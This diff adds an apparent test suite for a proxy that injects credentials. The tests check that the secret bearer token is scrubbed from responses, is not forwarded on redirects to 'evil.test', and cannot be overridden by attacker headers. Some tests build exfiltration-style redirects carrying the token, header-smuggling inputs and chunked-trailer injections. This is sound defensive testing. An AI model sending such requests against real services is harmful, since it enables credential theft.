@@ -1,0 +1,177 @@
+// The injected credential: out of the origin's answers, off every other host, and nobody else's in its place.
+
+import assert from 'node:assert/strict';
+import { gzipSync } from 'node:zlib';
+
+import { answered, get, nothingDialled, post, refused, type AttackTable } from '../support/attack.ts';
+import type { Arena } from '../support/arena.ts';
+import { http2Send, openHttp2, pseudo } from '../support/http2-client.ts';
+
+/** Values of a field as the origin got them, for requests to a host. */
+function valuesSeen(a: Arena, host: string, name: string): string[] {
+  return a.origins.seen
+    .filter((seen) => seen.host === host)
+    .flatMap(({ rawHeaders }) =>
+      rawHeaders.filter((_, i) => i % 2 === 1 && rawHeaders[i - 1]?.toLowerCase() === name),
+    );
+}
+
+export const credential: AttackTable = {
+  'CRED-01': async (a) => {
+    const at = a.at('api.allowed.test');
+    const reply = await a.send(at, get(at, '/reflect'));
+    answered(reply, 200);
+    assert.deepEqual(valuesSeen(a, 'api.allowed.test', 'authorization'), [`Bearer ${a.secret}`]);
+    assert.match(reply.text, /x-reflected: Bearer \*+/i);
+    assert.match(reply.text, /you sent Bearer \*+/);
+    assert.equal(a.lastEvent?.details?.['scrubbed'], 1);
+  },
+  'CRED-02': async (a) => {
+    const at = a.rawAt('api.allowed.test');
+    const caught = [
+      a.secret,
+      Buffer.from(a.secret).toString('base64'),
+      Buffer.from(a.secret).toString('base64url'),
+    ];
+    for (const form of caught) {
+      a.origins.answerRaw = (socket) => {
+        socket.write('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n');
+        for (const byte of form) socket.write(`1\r\n${byte}\r\n`);
+        socket.end('0\r\n\r\n');
+      };
+      const reply = await a.send(at, get(at, '/split'));
+      answered(reply, 200);
+      assert.match(reply.answers[0]?.body ?? '', /\*{20}/);
+    }
+    // Reversed, hexadecimal and the like are not searched for: docs/reference/attacks.md says so.
+  },
+  'CRED-03': async (a) => {
+    const at = a.at('api.allowed.test');
+    for (const coding of ['gzip', 'br', 'zstd', 'deflate', 'gzip, gzip', 'x-unknown']) {
+      a.origins.answer = (request, response) => {
+        assert.equal(request.headers['accept-encoding'], 'identity');
+        response
+          .writeHead(200, { 'content-encoding': coding })
+          .end(gzipSync(request.headers.authorization ?? ''));
+      };
+      answered(await a.send(at, get(at, '/zip', 'Accept-Encoding: br, zstd, gzip')), 502);
+    }
+  },
+  'CRED-05': async (a) => {
+    const at = a.at('api.allowed.test');
+    for (const status of [302, 307, 308]) {
+      a.origins.answer = (_request, response) =>
+        response.writeHead(status, { location: `https://${a.at('evil.test')}/` }).end();
+      answered(await a.send(at, get(at, '/go')), status);
+    }
+    answered(await a.send(a.at('evil.test'), get(a.at('evil.test'), '/')), 403);
+    assert.deepEqual(valuesSeen(a, 'evil.test', 'authorization'), []);
+  },
+  'CRED-06': async (a) => {
+    const at = a.at('api.allowed.test');
+    a.origins.answer = (_request, response) =>
+      response
+        .writeHead(302, {
+          location: `https://evil.test/?t=${a.secret}`,
+          'set-cookie': `t=${a.secret}`,
+          'www-authenticate': `Bearer realm="${a.secret}"`,
+        })
+        .end();
+    const reply = await a.send(at, get(at, '/go'));
+    answered(reply, 302);
+    assert.match(reply.text, /location: https:\/\/evil\.test\/\?t=\*+/i);
+  },
+  'CRED-07': async (a) => {
+    const at = a.at('api.allowed.test');
+    answered(
+      await a.send(at, post(at, '/upload', ['Authorization: Bearer ATTACKER', 'Content-Length: 4'], 'data')),
+      200,
+    );
+    assert.deepEqual(valuesSeen(a, 'api.allowed.test', 'authorization'), [`Bearer ${a.secret}`]);
+  },
+  'CRED-08': async (a) => {
+    const at = a.at('api.allowed.test');
+    const attack = 'Bearer ATTACKER';
+    refused(await a.send(at, get(at, '/a', `authorization: ${attack}`, `Authorization: ${attack}`)), 400);
+    refused(await a.send(at, get(at, '/b', `Authorization : ${attack}`)), 400);
+    nothingDialled(a);
+    answered(await a.send(at, get(at, '/c', `AUTHORIZATION: ${attack}`)), 200);
+    answered(
+      await a.send(
+        at,
+        post(at, '/d', ['Transfer-Encoding: chunked'], `1\r\nx\r\n0\r\nAuthorization: ${attack}\r\n\r\n`),
+      ),
+      200,
+      400,
+    );
+    await using client = await openHttp2(a, at);
+    await http2Send(a, client, [[...pseudo(at, '/e'), ['authorization', attack]]]);
+    for (const seen of a.origins.seen.filter(({ host }) => host === 'api.allowed.test')) {
+      const text = JSON.stringify(seen.rawHeaders);
+      assert.equal(text.match(new RegExp(a.secret, 'g'))?.length, 1);
+      assert.ok(!text.includes('ATTACKER'), text);
+    }
+  },
+  'CRED-10': {
+    notApplicable:
+      'no placeholder is substituted in a request yet: a credential is only ever put on by the rule that admits, so a placeholder that is sent anywhere is just text',
+  },
+  'CRED-11': async (a) => {
+    refused(
+      await a.toRelay(get(a.plainAt('api.allowed.test'), `http://${a.plainAt('api.allowed.test')}/`), {
+        events: 1,
+      }),
+      403,
+      502,
+    );
+    nothingDialled(a);
+    // A name that the certificate does not have: nothing of the request is sent.
+    a.names.set('api.allowed.test', { ttl: 0, addresses: ['127.0.0.10'] });
+    const { plain } = a.ports;
+    refused(await a.send(`api.allowed.test:${plain}`, get(`api.allowed.test:${plain}`, '/')), 403, 502);
+    nothingDialled(a);
+  },
+  'CRED-13': async (a) => {
+    const hop = [
+      'Proxy-Authorization: Bearer SESSION',
+      'Proxy-Connection: keep-alive',
+      'Proxy: http://evil.test',
+    ];
+    answered(await a.send(a.at('allowed.test'), get(a.at('allowed.test'), '/t', ...hop)), 200);
+    answered(
+      await a.toRelay(get(a.plainAt('allowed.test'), `http://${a.plainAt('allowed.test')}/p`, ...hop), {
+        events: 1,
+      }),
+      200,
+    );
+    await using client = await openHttp2(a, a.at('allowed.test'));
+    await http2Send(a, client, [
+      [...pseudo(a.at('allowed.test'), '/h2'), ['proxy-authorization', 'Bearer SESSION']],
+    ]);
+    for (const seen of a.origins.seen) assert.doesNotMatch(JSON.stringify(seen.rawHeaders), /SESSION|proxy/i);
+  },
+  'CRED-14': async (a) => {
+    const at = a.at('api.allowed.test');
+    answered(await a.send(at, get(at, '/reflect')), 200);
+    a.origins.answer = (_request, response) => response.destroy();
+    const broken = await a.send(at, get(at, '/broken'), { principal: 'second' });
+    answered(broken, 502);
+    // The oracle looks through every byte that came back and through the whole audit.
+    assert.ok(a.audit.length > 0);
+  },
+  'CRED-15': {
+    notApplicable:
+      'it takes a container and a second process: test/agent/hardening and test/e2e play it against the real agent',
+  },
+  'CRED-18': async (a) => {
+    const at = a.at('paths.test');
+    // Fetch and push are different paths; a redirect on info/refs is passed on, not followed.
+    answered(await a.send(at, get(at, '/public/repo.git/info/refs?service=git-upload-pack')), 200);
+    refused(
+      await a.send(at, post(at, '/other/repo.git/git-receive-pack', ['Content-Length: 4'], '0000')),
+      403,
+    );
+    answered(await a.send(a.at('evil.test'), get(a.at('evil.test'), '/sub.git/info/refs')), 403);
+    for (const seen of a.origins.seen) assert.ok(!JSON.stringify(seen.rawHeaders).includes(a.secret));
+  },
+};
